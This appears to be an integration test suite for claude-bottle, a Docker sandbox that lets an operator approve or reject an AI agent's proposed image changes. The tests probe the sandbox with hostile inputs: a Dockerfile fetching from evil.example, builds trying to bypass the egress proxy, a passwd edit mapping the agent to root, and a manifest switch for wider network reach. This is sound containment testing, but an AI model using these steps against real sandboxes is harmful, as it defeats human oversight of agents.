import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer, type Socket } from "node:net";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { AGENT_CA_BUNDLE, AGENT_CA_CERT } from "../../../src/backend/docker/agent-env.ts";
import { EngineError } from "../../../src/backend/docker/engine/error.ts";
import { firstTarFile } from "../../../src/backend/docker/engine/tar.ts";
import { InstanceStore } from "../../../src/backend/state.ts";
import { attachSession } from "../../../src/cli/attach.ts";
import { bridgeGateway } from "../../../src/cli/demo/git-upstream.ts";
import { EGRESS } from "../../../src/contracts/egress-proxy.ts";

import { manifest, type TempHome, tempHome } from "../../helpers/temp-home.ts";
import { connectDocker } from "../docker/engine-available.ts";
import { supervisedBottle } from "./mcp-client.ts";

const docker = await connectDocker({ baseImage: true });
const { engine } = docker;

const TRANSCRIPT = ".claude/projects/-home-node-workspace/0b5e55ed-transcript.jsonl";

describe("supervise: a capability approval in a running bottle", {
  skip: docker.skip,
  timeout: 900_000,
}, () => {
  let fixture: TempHome;
  let env: NodeJS.ProcessEnv;
  let instance = "";
  let stopped = false;
  const { cli, exec, sh, callTool, pendingId } = supervisedBottle(() => ({
    instance,
    env,
    cwd: fixture.project,
  }));
  const agentName = () => `cb-${instance}-agent`;
  const capabilityImage = () => `claude-bottle/agent:${instance}`;
  /** The published Dockerfile (FROM this bottle's agent image) with lines added, as an agent would. */
  const dockerfileWith = async (lines: string) => {
    const current = (await sh("cat /etc/claude-bottle/current-config/Dockerfile")).stdout;
    assert.match(current, /^FROM claude-bottle\/agent:latest$/m);
    return `${current}${lines}`;
  };
  const dockerfileFrom = (run: string) => dockerfileWith(`USER root\nRUN ${run}\nUSER node\n`);
  const audit = () =>
    readFileSync(join(fixture.home, "logs", instance, "supervise-audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  before(async () => {
    fixture = tempHome();
    fixture.write(
      "bottles/growing.md",
      manifest(`
egress:
  allowlist: ["unused.test"]
supervise: true
limits:
  build: {minutes: 1}
`),
    );
    fixture.write("agents/builder.md", manifest("bottle: growing", "Build things."));
    env = { CLAUDE_BOTTLE_HOME: fixture.home };
    const started = await cli(["start", "builder", "--yes", "--detach"]);
    assert.equal(started.status, 0, started.stderr);
    instance = started.stdout.trim();
    const seeded = await sh(
      `echo kept > ~/workspace/marker.txt && mkdir -p ~/${TRANSCRIPT.replace(/\/[^/]+$/, "")} && echo '{"type":"user","message":"hello"}' > ~/${TRANSCRIPT}`,
    );
    assert.equal(seeded.status, 0, seeded.stderr);
  });

  after(async () => {
    if (instance && !stopped) await cli(["stop", instance]);
    if (instance) await engine.imageRemove(capabilityImage());
    fixture?.[Symbol.dispose]();
  });

  it("copies a file out of a container as a tar, and says when the path does not exist", async () => {
    const tar = await engine.containerCopyOut(agentName(), "/home/node/workspace/marker.txt");
    assert.deepEqual(firstTarFile(tar), { name: "marker.txt", content: Buffer.from("kept\n") });
    await assert.rejects(engine.containerCopyOut(agentName(), "/home/node/absent"), (error: unknown) => {
      assert.ok(error instanceof EngineError && error.isNotFound, String(error));
      return true;
    });
  });

  it("the shipped sidecar refuses a Dockerfile that would leave the bottle's walls, at once, queueing nothing", async () => {
    const answer = await callTool("propose_capability", {
      dockerfile: `# syntax=evil.example/frontend:1\n${await dockerfileWith("RUN --mount=type=cache,target=/root/.cache true\nADD https://evil.example/x /x\n")}`,
      justification: "wants the operator's cache",
    });
    assert.equal(answer?.isError, true, answer?.text);
    assert.match(answer?.text ?? "", /parser directives/);
    assert.match(answer?.text ?? "", /RUN flags/);
    assert.match(answer?.text ?? "", /ADD is not allowed/);
    assert.match((await cli(["dashboard", "--once"])).stdout, /no pending proposals/);
  });

  it("changes nothing when the operator rejects a capability", async () => {
    const agentBefore = await engine.containerInspect(agentName());
    const asked = callTool("propose_capability", {
      dockerfile: await dockerfileFrom("echo rejected > /etc/rejected-marker"),
      justification: "wants a rejected marker",
    });
    const id = await pendingId("wants a rejected marker");
    const rejected = await cli(["reject", id, "--reason", "not needed"]);
    assert.equal(rejected.status, 0, rejected.stderr);
    const answer = await asked;
    assert.match(answer?.text ?? "", /^rejected \(proposal [0-9a-f]{8}\): not needed\. Nothing changed/);
    const agentAfter = await engine.containerInspect(agentName());
    assert.equal(agentAfter?.id, agentBefore?.id, "the same agent container");
    assert.equal(await engine.imageInspect(capabilityImage()), undefined, "no image was built");
    assert.notEqual((await sh("test -e /etc/rejected-marker")).status, 0);
    assert.doesNotMatch((await sh("cat /etc/claude-bottle/current-config/Dockerfile")).stdout, /rejected/);
  });

  it("keeps the proposal pending and shows the build's output when the image does not build", async () => {
    const agentBefore = await engine.containerInspect(agentName());
    const asked = callTool("propose_capability", {
      dockerfile: await dockerfileFrom("echo build-broke-here && exit 3"),
      justification: "wants a broken build",
    });
    const id = await pendingId("wants a broken build");
    const approved = await cli(["approve", id]);
    assert.equal(approved.status, 1, approved.stdout + approved.stderr);
    assert.match(approved.stderr, new RegExp(`proposal ${id} was not applied and stays pending`));
    assert.match(approved.stderr, /building the new agent image failed/);
    assert.match(approved.stderr, /build-broke-here/);
    assert.match((await cli(["dashboard", "--once"])).stdout, new RegExp(id));
    const agentAfter = await engine.containerInspect(agentName());
    assert.equal(agentAfter?.id, agentBefore?.id, "the same agent container");
    assert.equal(await engine.imageInspect(capabilityImage()), undefined);
    const failed = audit().find((line) => line.decision === "apply-failed" && line.proposal === id);
    assert.ok(failed, JSON.stringify(audit()));
    assert.equal(failed.kind, "capability");
    assert.equal((await cli(["reject", id, "--reason", "broken"])).status, 0);
    assert.match((await asked)?.text ?? "", /^rejected/);
  });

  it("stops a build that runs past the bottle's limits.build.minutes; nothing changes, the proposal stays pending", async () => {
    const agentBefore = await engine.containerInspect(agentName());
    const asked = callTool(
      "propose_capability",
      { dockerfile: await dockerfileFrom("sleep 300"), justification: "wants a slow build" },
      { timeoutMs: 300_000 },
    );
    const id = await pendingId("wants a slow build");
    const approved = await cli(["approve", id]);
    assert.equal(approved.status, 1, approved.stdout + approved.stderr);
    assert.match(approved.stderr, /the build ran longer than its limit of 1 min/);
    assert.match(approved.stderr, new RegExp(`proposal ${id} was not applied and stays pending`));
    assert.equal(
      (await engine.containerInspect(agentName()))?.id,
      agentBefore?.id,
      "the same agent container",
    );
    assert.equal(
      await engine.containerInspect(`cb-${instance}-agent-build`),
      undefined,
      "no build left running",
    );
    assert.equal(await engine.imageInspect(capabilityImage()), undefined);
    assert.equal((await cli(["reject", id, "--reason", "too slow"])).status, 0);
    assert.match((await asked)?.text ?? "", /^rejected/);
  });

  it("refuses an approval that would re-plan the bottle from manifests changed since it started", async () => {
    const agentBefore = await engine.containerInspect(agentName());
    // As if the agent had pushed a commit that moves it to a bottle with more reach.
    fixture.write(
      "bottles/elsewhere.md",
      manifest('egress:\n  allowlist: ["elsewhere.test"]\nsupervise: true\n'),
    );
    const original = readFileSync(join(fixture.home, "agents", "builder.md"), "utf8");
    fixture.write("agents/builder.md", manifest("bottle: elsewhere", "Build things."));
    try {
      const asked = callTool("propose_capability", {
        dockerfile: await dockerfileFrom("echo moved > /etc/moved-marker"),
        justification: "wants to move bottles",
      });
      const id = await pendingId("wants to move bottles");
      const approved = await cli(["approve", id]);
      assert.equal(approved.status, 1, approved.stdout + approved.stderr);
      assert.match(approved.stderr, new RegExp(`proposal ${id} was not applied and stays pending`));
      assert.match(approved.stderr, /manifests changed since it started/);
      assert.match(approved.stderr, /-\s+"name": "growing"/);
      assert.match(approved.stderr, /\+\s+"name": "elsewhere"/);
      assert.match(approved.stderr, /\+\s+"elsewhere\.test"/);
      assert.equal((await engine.containerInspect(agentName()))?.id, agentBefore?.id, "the same agent");
      assert.equal(await engine.imageInspect(capabilityImage()), undefined, "nothing was built");
      assert.equal((await cli(["reject", id, "--reason", "manifests changed"])).status, 0);
      assert.match((await asked)?.text ?? "", /^rejected/);
    } finally {
      fixture.write("agents/builder.md", original);
    }
  });

  it("refuses to carry more than 1 GiB of the agent's home, counting a sparse file in full", async () => {
    const agentBefore = await engine.containerInspect(agentName());
    assert.equal((await sh("truncate -s 20G ~/workspace/sparse.img")).status, 0);
    try {
      const asked = callTool("propose_capability", {
        dockerfile: await dockerfileFrom("echo sparse > /etc/sparse-marker"),
        justification: "wants a sparse home",
      });
      const id = await pendingId("wants a sparse home");
      const approved = await cli(["approve", id]);
      assert.equal(approved.status, 1, approved.stdout + approved.stderr);
      assert.match(
        approved.stderr,
        /hold 20(\.\d)? GiB \(apparent size: a sparse file counts in full\); a capability carries at most 1 GiB/,
      );
      assert.equal((await engine.containerInspect(agentName()))?.id, agentBefore?.id, "the same agent");
      assert.equal(await engine.imageInspect(capabilityImage()), undefined, "nothing was built");
      assert.equal((await cli(["reject", id, "--reason", "too big"])).status, 0);
      assert.match((await asked)?.text ?? "", /^rejected/);
    } finally {
      await sh("rm -f ~/workspace/sparse.img");
    }
  });

  it("stops the copy at 1 GiB when the home grows during the build, and puts the old agent back whole", async () => {
    const agentBefore = await engine.containerInspect(agentName());
    await sh("echo kept > ~/workspace/kept.txt");
    const asked = callTool("propose_capability", {
      dockerfile: await dockerfileFrom("sleep 6; echo late > /etc/late-marker"),
      justification: "grows while building",
    });
    const id = await pendingId("grows while building");
    const approving = cli(["approve", id]);
    try {
      // Measured before the build (small then); the agent writes while the build runs.
      const build = `cb-${instance}-agent-build`;
      for (let tries = 0; (await engine.containerInspect(build))?.running !== true; tries++) {
        assert.ok(tries < 600, "the build container never ran");
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      assert.equal((await sh("truncate -s 3G ~/workspace/grown.img")).status, 0);
      const approved = await approving;
      assert.equal(approved.status, 1, approved.stdout + approved.stderr);
      assert.match(approved.stderr, /hold more than 1 GiB \(apparent size: a sparse file counts in full\)/);
      assert.match(approved.stderr, /the previous agent was started again, home state and all/);
      const agentAfter = await engine.containerInspect(agentName());
      assert.equal(agentAfter?.id, agentBefore?.id, "the very same agent container, started again");
      assert.equal(agentAfter?.running, true);
      assert.equal((await sh("cat ~/workspace/kept.txt")).stdout, "kept\n");
      assert.equal((await sh("stat -c %s ~/workspace/grown.img")).stdout.trim(), String(3 * 1024 ** 3));
      assert.equal(
        await engine.containerInspect(`cb-${instance}-agent-replaced`),
        undefined,
        "nothing kept aside",
      );
      assert.equal(await engine.imageInspect(capabilityImage()), undefined, "the unused image is gone");
    } finally {
      await approving.catch(() => {});
      await sh("rm -f ~/workspace/grown.img ~/workspace/kept.txt");
      // The agent's call ends with the old container's stop (its exec may take a while to notice).
      asked.catch(() => undefined);
    }
  });

  it("rebuilds the agent image and resumes the same bottle on it, transcript and workspace kept", async () => {
    const agentBefore = await engine.containerInspect(agentName());
    const sidecarsBefore = await Promise.all(
      ["egress-proxy", "supervise"].map((role) => engine.containerInspect(`cb-${instance}-${role}`)),
    );
    const dockerfile = await dockerfileFrom("echo capability > /etc/capability-marker");
    // The call dies with the old agent container; the agent learns the outcome from the new one.
    const asked = callTool(
      "propose_capability",
      { dockerfile, justification: "needs the capability marker" },
      { timeoutMs: 60_000 },
    );
    const id = await pendingId("needs the capability marker");
    const approved = await cli(["approve", id, "--note", "go ahead"]);
    assert.equal(approved.status, 0, approved.stderr);
    assert.match(approved.stdout, new RegExp(`approved ${id}: rebuilt the agent image ${capabilityImage()}`));
    assert.match(approved.stdout, /kept ~\/\.claude, ~\/\.claude\.json, ~\/workspace/);
    await asked;

    // The new image, in a new agent container of the same instance.
    assert.equal((await sh("cat /etc/capability-marker")).stdout, "capability\n");
    const agentAfter = await engine.containerInspect(agentName());
    assert.equal(agentAfter?.running, true);
    assert.notEqual(agentAfter?.id, agentBefore?.id);
    assert.equal(agentAfter?.image, capabilityImage());
    assert.equal(agentAfter?.labels["claude-bottle.instance"], instance);
    // The image says what it was built on: the image the bottle was launched with.
    const { "claude-bottle.launch-image": launchImage, ...labels } = agentAfter?.labels ?? {};
    assert.equal(launchImage, agentBefore?.imageId);
    assert.deepEqual(labels, agentBefore?.labels, "same instance, role, owner and mode labels");
    const image = await engine.imageInspect(capabilityImage());
    assert.equal(image?.labels["claude-bottle.instance"], instance);
    const listed = await cli(["list", "--running"]);
    assert.match(listed.stdout, new RegExp(instance));
    const sidecarsAfter = await Promise.all(
      ["egress-proxy", "supervise"].map((role) => engine.containerInspect(`cb-${instance}-${role}`)),
    );
    assert.deepEqual(
      sidecarsAfter.map((container) => container?.id),
      sidecarsBefore.map((container) => container?.id),
      "the sidecars were not restarted",
    );

    // Home state carried over, owned by the agent.
    assert.equal((await sh("cat ~/workspace/marker.txt")).stdout, "kept\n");
    assert.equal((await sh(`cat ~/${TRANSCRIPT}`)).stdout, '{"type":"user","message":"hello"}\n');
    assert.equal((await sh(`stat -c %u ~/workspace/marker.txt ~/${TRANSCRIPT}`)).stdout, "1000\n1000\n");
    const mcp = await exec("claude", "mcp", "get", "supervise");
    assert.equal(mcp.status, 0, mcp.stdout + mcp.stderr);

    // The bottle's CA, unchanged, is trusted by the new agent.
    const proxyCa = (await engine.containerExec(`cb-${instance}-egress-proxy`, ["cat", EGRESS.caCert]))
      .stdout;
    assert.equal((await sh(`cat ${AGENT_CA_CERT}`)).stdout, proxyCa);
    const inBundle = await exec(
      "node",
      "-e",
      `const fs=require("fs");const b=(s)=>s.replace(/-----[^-]+-----|\\s/g,"");process.exit(fs.readFileSync("${AGENT_CA_BUNDLE}","utf8").replace(/\\s/g,"").includes(b(fs.readFileSync("${AGENT_CA_CERT}","utf8")))?0:1)`,
    );
    assert.equal(inBundle.status, 0, "update-ca-certificates put the bottle's CA in the bundle");
    // The proxy path works from the new agent (a refused host: the proxy itself answers).
    assert.equal(
      (await sh("curl -sS -m 20 -o /dev/null -w '%{http_code}' http://blocked.test/")).stdout,
      "403",
    );

    // The agent's view and the audit follow.
    assert.equal((await sh("cat /etc/claude-bottle/current-config/Dockerfile")).stdout, dockerfile);
    const entry = audit().find((line) => line.decision === "approved" && line.kind === "capability");
    assert.ok(entry, JSON.stringify(audit()));
    assert.equal(entry.note, "go ahead");
    assert.equal(entry.after, dockerfile);
    assert.ok((entry.diff as string[]).includes("+RUN echo capability > /etc/capability-marker"));
    assert.match((await cli(["dashboard", "--once"])).stdout, /no pending proposals/);
  });

  it("builds an approved capability inside the bottle's walls, and its passwd cannot make the agent root", async () => {
    // A server on the host, where `docker build` (the engine's default network) reaches it.
    const seen: string[] = [];
    const recorder = createServer((socket: Socket) => {
      seen.push(socket.remoteAddress ?? "?");
      socket.end("HTTP/1.1 200 OK\r\ncontent-length: 7\r\n\r\nreached");
    });
    await new Promise<void>((resolve) => recorder.listen(0, "0.0.0.0", resolve));
    const port = (recorder.address() as { port: number }).port;
    const gateway = await bridgeGateway(engine);
    try {
      const dockerfile = await dockerfileWith(
        [
          "USER root",
          // Through the proxy (the build's only way out): refused, the proxy answers.
          `RUN curl -s -m 20 -o /dev/null -w '%{http_code}' http://${gateway}:${port}/via-proxy > /etc/via-proxy || true`,
          // Around the proxy, straight to the host: no route.
          `RUN node -e 'require("net").connect(${port}, "${gateway}").on("connect", () => process.exit(0)).on("error", () => process.exit(1)).setTimeout(10000, () => process.exit(2))' && echo connected > /etc/direct || echo refused > /etc/direct`,
          // An image that maps the agent's name to root.
          "RUN sed -i 's/^node:x:1000:1000:/node:x:0:0:/' /etc/passwd && id -u node > /etc/node-uid",
          'ENV CAPABILITY_NOTE="built in the bottle"',
          "USER node",
          "",
        ].join("\n"),
      );
      const asked = callTool(
        "propose_capability",
        { dockerfile, justification: "confined build check" },
        { timeoutMs: 60_000 },
      );
      const approved = await cli(["approve", await pendingId("confined build check")]);
      assert.equal(approved.status, 0, approved.stderr);
      await asked;
      assert.deepEqual(seen, [], "a build step reached the host");
      assert.equal((await sh("cat /etc/via-proxy")).stdout, "403");
      assert.equal((await sh("cat /etc/direct")).stdout, "refused\n");
      // The hostile passwd is in the image, and changes nothing: the agent is uid 1000.
      assert.equal((await sh("cat /etc/node-uid")).stdout, "0\n");
      assert.equal((await sh("id -u; id -g")).stdout, "1000\n1000\n");
      assert.equal((await exec("sh", "-c", "id -u")).stdout, "1000\n");
      assert.equal((await sh("echo $HOME")).stdout, "/home/node\n");
      // The image's own config: ENV kept, the proxy settings of the build not baked in.
      const config = (await engine.imageInspect(capabilityImage()))?.config;
      assert.ok(config?.env.includes("CAPABILITY_NOTE=built in the bottle"), JSON.stringify(config));
      assert.ok(!config?.env.some((entry) => /_proxy=/i.test(entry)), JSON.stringify(config?.env));
      assert.deepEqual(config?.cmd, ["claude"]);
    } finally {
      recorder.close();
    }
  });

  it("a session that ends by itself is not attached again", async () => {
    const logged: string[] = [];
    const exitCode = await attachSession({
      engine,
      store: new InstanceStore(fixture.home),
      instance,
      command: ["sh", "-c", "exit 3"],
      log: (line) => logged.push(line),
    });
    assert.equal(exitCode, 3);
    assert.deepEqual(logged, []);
  });

  it("a session attached to the agent continues in the new container when a capability replaces it", async () => {
    const sessions = "~/workspace/sessions.log";
    const logged: string[] = [];
    const attached = attachSession({
      engine,
      store: new InstanceStore(fixture.home),
      instance,
      // Stand-ins for Claude Code (which needs a terminal and an API): each session records itself.
      command: ["sh", "-c", `echo first >> ${sessions}; exec sleep 600`],
      continueCommand: ["sh", "-c", `echo continued >> ${sessions}; exit 7`],
      log: (line) => logged.push(line),
    });
    while ((await sh(`cat ${sessions}`)).stdout !== "first\n")
      await new Promise((resolve) => setTimeout(resolve, 100));

    // Its answer is not what this test checks, and the exec may not return (mcp-client.ts).
    const asked = callTool(
      "propose_capability",
      {
        dockerfile: await dockerfileFrom("echo second > /etc/second-marker"),
        justification: "needs the second marker",
      },
      { timeoutMs: 60_000 },
    );
    const approved = await cli(["approve", await pendingId("needs the second marker")]);
    assert.equal(approved.status, 0, approved.stderr);
    await asked;

    // The first session ended with the old container; the next one ran in the new container,
    // with the workspace carried over, and its exit code is the session's.
    assert.equal(await attached, 7);
    assert.equal((await sh("cat /etc/second-marker")).stdout, "second\n");
    assert.equal((await sh(`cat ${sessions}`)).stdout, "first\ncontinued\n");
    assert.match(logged.join("\n"), /agent container was replaced .*continuing the session/);
    assert.equal(new InstanceStore(fixture.home).isReplacing(instance), false);
  });

  it("stop removes the bottle's capability image", async () => {
    const result = await cli(["stop", instance]);
    assert.equal(result.status, 0, result.stderr);
    stopped = true;
    assert.equal(await engine.imageInspect(capabilityImage()), undefined);
  });
});
